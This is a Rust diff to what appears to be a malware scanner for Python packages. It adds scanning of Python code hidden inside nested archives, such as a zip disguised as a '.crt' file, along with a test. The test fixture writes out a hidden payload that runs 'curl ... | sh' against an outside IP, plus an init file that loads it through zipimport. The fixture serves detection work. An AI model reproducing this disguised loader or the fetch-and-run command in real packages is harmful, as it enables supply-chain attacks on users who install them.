@@ -299,6 +299,7 @@ pub fn analyse(filename: &str, bytes: &[u8], limits: &Limits) -> Analysis {
         .map(|f| python::link::module_name(&f.path, kind != Kind::Wheel))
         .collect();
     python::link::link(&mut files, &modules);
+    files.extend(nested_sources(&listing, &files, limits));
     Analysis {
         filename: filename.to_string(),
         kind,
@@ -308,6 +309,56 @@ pub fn analyse(filename: &str, bytes: &[u8], limits: &Limits) -> Analysis {
         name,
         version,
     }
+}
+
+/// Most nested archives whose Python sources are analysed.
+const MAX_NESTED_ARCHIVES: usize = 16;
+
+/// Python sources inside archives the artifact ships (a zip named `.crt` or
+/// `.pyc`, a tarball among data files), named `outer!/inner.py`. Loaded with
+/// `zipimport` (anywhere in the artifact's code) their top level runs on
+/// import like any module's; otherwise they are only data, read as auxiliary
+/// code so that what they hold is still reported (issue 11).
+fn nested_sources(listing: &Listing, files: &[python::PyFile], limits: &Limits) -> Vec<python::PyFile> {
+    let zipimport = files.iter().any(|f| {
+        f.imports.iter().any(|(m, _)| m == "zipimport") || f.calls.iter().any(|c| c.name.starts_with("zipimport."))
+    });
+    let mut out = Vec::new();
+    let archives = listing
+        .members
+        .iter()
+        .filter(|m| m.entry == EntryType::File && m.complete && !python::is_source(&m.path))
+        .filter_map(|m| {
+            let name = if m.data.starts_with(b"PK\x03\x04") {
+                "nested.zip"
+            } else if m.data.starts_with(b"\x1f\x8b") {
+                "nested.tar.gz"
+            } else {
+                return None;
+            };
+            // A wheel or egg inside an sdist is a build or test fixture with its own name.
+            let lower = m.path.to_ascii_lowercase();
+            (!lower.ends_with(".whl") && !lower.ends_with(".egg")).then_some((m, name))
+        })
+        .take(MAX_NESTED_ARCHIVES);
+    for (m, name) in archives {
+        let inner = archive::read(name, &m.data, limits);
+        let role = if zipimport && name == "nested.zip" {
+            Role::Module
+        } else {
+            Role::Auxiliary
+        };
+        for member in inner
+            .members
+            .iter()
+            .filter(|i| i.entry == EntryType::File && i.complete && python::is_source(&i.path))
+        {
+            let mut named = member.clone();
+            named.path = format!("{}!/{}", m.path, member.path);
+            out.push(python::analyse_member(&named, role));
+        }
+    }
+    out
 }
 
 /// What an sdist's build configuration says it installs, read as text:
@@ -851,5 +902,43 @@ pub mod memo {
             .unwrap();
             assert_eq!(inspect_path(&art, &cache).findings, first.findings);
         }
+    }
+}
+
+#[cfg(test)]
+mod nested_tests {
+    use std::io::Write;
+
+    use super::*;
+
+    fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for (path, data) in members {
+            z.start_file(*path, zip::write::SimpleFileOptions::default()).unwrap();
+            z.write_all(data).unwrap();
+        }
+        z.finish().unwrap().into_inner()
+    }
+
+    fn wheel(init: &str, hidden: &[u8]) -> Vec<u8> {
+        let meta = rules::artifact_fixture::pkg_info("pkg", "1.0");
+        zip(&[
+            ("pkg-1.0.dist-info/METADATA", meta.as_bytes()),
+            ("pkg/__init__.py", init.as_bytes()),
+            ("pkg/cert.crt", hidden),
+        ])
+    }
+
+    #[test]
+    fn code_in_a_zip_loaded_with_zipimport_runs_on_import() {
+        // Error (issue 11): a zip named `.crt` holding the payload, loaded with zipimport.
+        let payload = zip(&[("x.py", b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n")]);
+        let init = "import os, zipimport\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cert.crt')).load_module('x')\n";
+        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel(init, &payload)).findings;
+        let hit = f.iter().find(|f| f.file.as_deref() == Some("pkg/cert.crt!/x.py"));
+        assert!(hit.is_some_and(|f| f.severity == Severity::Critical), "{f:?}");
+        // No error at high: the same zip shipped as data nobody imports.
+        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel("__all__ = []\n", &payload)).findings;
+        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
     }
 }
